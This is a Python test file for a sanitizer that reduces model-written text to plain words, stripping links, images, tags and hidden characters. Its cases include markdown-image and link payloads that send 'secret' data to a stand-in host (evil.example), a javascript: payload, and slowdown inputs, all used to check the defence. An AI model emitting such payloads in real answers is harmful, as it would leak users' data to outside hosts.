"""What a model wrote reaches the reader as plain words only."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from model.text.output_text import to_plain_text
from tests.builders.timing import least_seconds


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("You get 12 weeks.", "You get 12 weeks."),
        ("See [the form](https://evil.example/?q=secret) now.", "See the form now."),
        ("![x](https://evil.example/a.png?d=secret)Done.", "xDone."),
        ("Go to https://evil.example/?q=1 today", "Go to (address on the page) today"),
        ("Go to www.evil.example today", "Go to (address on the page) today"),
        ("Go to //evil.example/x today", "Go to (address on the page) today"),
        ("javascript:alert(1)", "(address on the page)"),
        ('<img src="https://evil.example/x">Hello', "Hello"),
        ("<at>Everybody</at> listen", "Everybody listen"),
        ("[click][1]\n[1]: https://evil.example", "click"),
        ("**Twelve** weeks `now` [2]", "Twelve weeks now"),
        ("half\u202e reversed\u0000\ud800", "half reversed"),
        ("either/or and 2//3 stay", "either/or and 2//3 stay"),
    ],
)
def test_links_images_tags_and_control_characters_do_not_pass(written: str, shown: str) -> None:
    assert to_plain_text(written) == shown


def test_no_prefix_of_a_hostile_answer_ever_shows_its_address() -> None:
    written = (
        "You get ![pixel](https://evil.example/p?d=secret) twelve weeks "
        "<img src=https://evil.example/x> [a](http://evil.example) ."
    )
    for end in range(len(written) + 1):
        shown = to_plain_text(written[:end])
        assert "evil.example" not in shown
        assert "http" not in shown


PAGE = """Run curl <host>:8080 now, or use List<String>. The portal is https://vpn.corp.example/start, the form
https://forms.corp.example/?id=7. Override __init__ and read arr[0]. In <b>x</b>, <img src="https://pics.example/a.png"> and
<at>All</at> show. See [the form](https://docs.corp.example/a) too. Press Ctrl+K // then Enter."""  # noqa: E501


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Run curl <host>:8080 now.", "Run curl <host>:8080 now."),
        ("Use List<String>.", "Use List<String>."),
        ("Open https://vpn.corp.example/start.", "Open https://vpn.corp.example/start."),
        ("Open `https://vpn.corp.example/start`, then", "Open https://vpn.corp.example/start, then"),
        ("Fill in https://forms.corp.example/?id=7", "Fill in https://forms.corp.example/?id=7"),
        ("Override `__init__`.", "Override __init__."),
        ("Read arr[0] [1].", "Read arr[0]."),
        ("Press Ctrl+K // then Enter", "Press Ctrl+K // then Enter"),
    ],
)
def test_an_address_a_placeholder_or_a_name_in_signs_of_the_page_is_kept(written: str, shown: str) -> None:
    assert to_plain_text(written, PAGE) == shown


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Open https://vpn.corp.example/start?q=12", "Open (address on the page)"),
        ("Open https://vpn.corp.example/", "Open (address on the page)"),
        ("Open https://vpn.corp.example/start/12", "Open (address on the page)"),
        ("Open https://forms.corp.example/?id=", "Open (address on the page)"),
        ("Open https://evil.example/start", "Open (address on the page)"),
        ("Open //corp.example/start", "Open (address on the page)"),
        ("[open](https://vpn.corp.example/start)", "open"),
        ("![open](https://vpn.corp.example/start)", "open"),
        ("![open](https://forms.corp.example/?id=7)", "open"),
        ("[![x](https://vpn.corp.example/start)](https://vpn.corp.example/start)", "x"),
        ("[open]: https://vpn.corp.example/start", ""),
        ('<img src="https://pics.example/a.png">', ""),
        ("<at>All</at>", "All"),
        ("Run <user>", "Run"),
        ("Call __exit__ or b[0]", "Call exit or b"),
        ("\ue0000\ue001 https://vpn.corp.example/start", "0 https://vpn.corp.example/start"),
    ],
)
def test_what_the_page_has_not_word_for_word_is_made_safe_as_ever(written: str, shown: str) -> None:
    assert to_plain_text(written, PAGE) == shown


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("می‌خواهم", "می‌خواهم"),
        ("👩‍👩‍👧 family", "👩‍👩‍👧 family"),
        ("क्‍ष", "क्‍ष"),
        ("pass\u200cword\u200d", "password"),
        ("a\u200b\u200d\u200db", "ab"),
        ("x <y and z", "x < y and z"),
        ("1 < 2 and 3 > 2", "1 < 2 and 3 > 2"),
        ("Press Ctrl+K // then Enter", "Press Ctrl+K // then Enter"),
        ("The end <img src=https://evil.example/x", "The end"),
    ],
)
def test_joiners_and_signs_of_comparison_stay(written: str, shown: str) -> None:
    assert to_plain_text(written) == shown


def test_no_prefix_of_an_answer_shows_a_longer_address_than_the_pages() -> None:
    written = (
        "Open https://vpn.corp.example/start?q=secret and "
        "![p](https://vpn.corp.example/start?d=1) or <img src=x> [a](http://e.example) ."
    )
    for end in range(len(written) + 1):
        shown = to_plain_text(written[:end], PAGE)
        assert "secret" not in shown
        assert "](" not in shown
        assert "<img" not in shown


@pytest.mark.parametrize(
    "hostile", ["[" * 20_000, "[a][" * 5_000, "\n" * 20_000, "<a " * 9_000, "__" * 9_000, "a_b[0] " * 2_000]
)
def test_hostile_answers_take_no_long(hostile: str) -> None:
    assert least_seconds(lambda: to_plain_text(hostile, hostile)) < 1


def test_the_cases_of_what_a_model_writes_come_out_right(shared_data: Path) -> None:
    for path in sorted((shared_data / "cases").glob("model-*.json")):
        case = json.loads(path.read_text())
        assert to_plain_text(case["written"], case.get("page", "")) == case["written"], path.name
